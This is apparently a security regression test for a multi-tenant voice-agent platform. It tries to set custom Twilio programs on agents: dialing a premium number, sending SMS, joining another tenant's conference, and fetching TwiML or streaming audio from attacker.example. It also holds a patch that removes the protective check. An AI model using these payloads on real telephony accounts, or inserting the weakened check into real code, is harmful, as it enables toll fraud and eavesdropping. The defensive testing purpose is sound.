import type { Attack } from '../attack.ts';

/** What would run on the operator's account: a call to a premium number, a message, another tenant's conference, and sound sent to a stranger. */
const programs = [
  { connect: 'twiml', twiml: '<Response><Dial>+19005551234</Dial></Response>' },
  { connect: 'twiml', twiml: '<Response><Sms to="+15005550006">free</Sms></Response>' },
  { connect: 'twiml', twiml: '<Response><Dial><Conference>sales</Conference></Dial></Response>' },
  { connect: 'twiml_url', url: 'https://attacker.example/program.xml' },
  { connect: 'media_stream', url: 'wss://attacker.example/listen' },
] as const;

export const carrierPrograms: Attack = {
  name: 'carrier-programs',
  does: 'a tenant’s agent has the carrier run a program of its own on the operator’s account',
  async begin({ attacker }) {
    let taken = 0;
    let turn = 0;
    return {
      async send() {
        const voice = programs[turn++ % programs.length];
        const config = { telephony: { provider: 'twilio', voice } };
        const created = await attacker.send('POST /api/v1/agents', {
          json: { name: `Agent ${turn}`, config },
        });
        const changed = await attacker.send(`PUT /api/v1/agents/${attacker.agentId}`, { json: { config } });
        taken += [created, changed].filter(({ status }) => status < 300).length;
      },
      figures: async () => [
        { what: 'agents with a program of their own', measured: taken, unit: '', atMost: 0 },
        {
          what: 'programs that were tried',
          measured: Math.min(turn, programs.length),
          unit: '',
          atLeast: programs.length,
        },
      ],
    };
  },
  isLight: true,
  perSecond: 10,
  withoutProtection: [
    {
      file: 'packages/core/src/carrier-instructions.ts',
      find: "  if ((connect === 'twiml' || connect === 'twiml_url') && !rules.allowsOwnTwiml) {",
      replace: "  if (connect === 'none' && !rules.allowsOwnTwiml) {",
    },
  ],
};
